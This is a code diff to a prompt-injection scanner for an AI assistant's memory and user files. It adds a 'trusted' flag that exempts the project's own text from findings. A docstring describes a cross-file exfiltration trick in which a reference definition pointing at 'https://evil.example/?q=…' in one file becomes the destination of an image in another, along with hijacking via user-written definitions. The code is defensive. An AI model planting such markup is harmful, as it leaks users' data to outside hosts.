@@ -100,6 +100,15 @@ class Part(NamedTuple):
     file: str  # how messages name it
     first_line: int  # the file's line of ``body[0]`` (frontmatter moves a body down)
     named: bool = False  # ``body`` is the file's name, the heading the document gives it
+    # The project's own text, read with the user's (a label's first definition wins, wherever it
+    # is): never a finding, never blocked.
+    trusted: bool = False
+
+    def scanned(self, manifest: Manifest) -> list[Found]:
+        """Its findings read alone (none for the project's own text)."""
+        if self.trusted:
+            return []
+        return scan(manifest, self.body, self.file, self.first_line, self.named)
 
 
 def heading(display: str, file: str) -> Part:
@@ -114,9 +123,11 @@ def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
     none makes alone, each placed in the part holding its text. A renderer reads a document
     whole: a reference definition in one file is the destination of an image in another
     (``[l]: https://evil.example/?q=…`` in USER.md, ``![x][l]`` in MEMORY.md), and a
-    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``. Secrets and
-    hidden text are characters of one file: a join adds none."""
-    if len(parts) < 2:
+    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``; a user's
+    definition written before the project's takes over the project's image (adversary16 D13).
+    A trusted part (the project's own text) is read with the others, its findings none. Secrets
+    and hidden text are characters of one file: a join adds none."""
+    if len(parts) < 2 or all(part.trusted for part in parts):
         return []
     joined = "\n\n".join(part.body for part in parts)
     readings = [text for text in _readings(manifest, joined) if injection.scan(text)]
@@ -125,11 +136,12 @@ def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
     rules = manifest.injection
     allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
     origins = [Origin(part.body, part.file, part.first_line, named=part.named) for part in parts]
-    seen = {_place(f) for part in parts for f in scan(manifest, *part)}
+    seen = {_place(f) for part in parts for f in part.scanned(manifest)}
+    trusted = {part.file for part in parts if part.trusted}
     found = []
     for text in readings:
         for finding in injection.find(text, origins, allowed):
-            if _place(finding) not in seen:
+            if _place(finding) not in seen and finding.span.file not in trusted:
                 seen.add(_place(finding))
                 found.append(finding)
     return found
@@ -156,15 +168,13 @@ def contain_together(manifest: Manifest, parts: Sequence[Part]) -> list[tuple[st
     held = [_Held(part) for part in parts]
     while True:
         for one in held:
-            while found := scan(
-                manifest, one.body, one.part.file, one.part.first_line, one.part.named
-            ):
+            while found := one.part._replace(body=one.body).scanned(manifest):
                 one.block(found)
         together = composed(manifest, [one.part._replace(body=one.body) for one in held])
         if not together:
             return [(one.body, one.every) for one in held]
         # A finding placed without a line in a file with a heading is the heading's.
-        by_place = {(one.part.file, one.part.named): one for one in held}
+        by_place = {(o.part.file, o.part.named): o for o in held if not o.part.trusted}
         before = [one.body for one in held]
         for finding in together:
             named = (finding.span.file, True) in by_place and finding.span.line is None
@@ -172,7 +182,7 @@ def contain_together(manifest: Manifest, parts: Sequence[Part]) -> list[tuple[st
             if owner is not None:
                 owner.block([finding])
         if [one.body for one in held] == before:
-            for one in held:
+            for one in (one for one in held if not one.part.trusted):
                 one.block([f._replace(span=f.span.replace(line=None)) for f in together])
 
 
